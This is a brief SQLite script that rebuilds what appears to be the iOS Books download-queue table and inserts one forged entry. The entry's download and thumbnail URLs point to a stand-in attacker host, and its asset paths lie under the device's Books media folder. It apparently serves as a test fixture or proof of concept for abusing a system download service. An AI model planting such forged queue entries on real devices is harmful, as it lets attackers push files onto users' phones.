PRAGMA page_size=512;
CREATE TABLE ZBLDOWNLOADINFO (Z_PK INTEGER PRIMARY KEY, ZURL TEXT, ZASSETPATH TEXT, ZPLISTPATH TEXT, ZCLIENTIDENTIFIER TEXT, ZTHUMBNAILIMAGEURL TEXT, ZLASTSTATECHANGETIME TIMESTAMP);
INSERT INTO ZBLDOWNLOADINFO VALUES (1, 'https://evil.example/x', '/private/var/mobile/Media/Books/asset.epub', '/private/var/mobile/Media/Books/iTunesMetadata.plist', 'com.apple.iBooks', 'https://evil.example/y', 767991550.5);
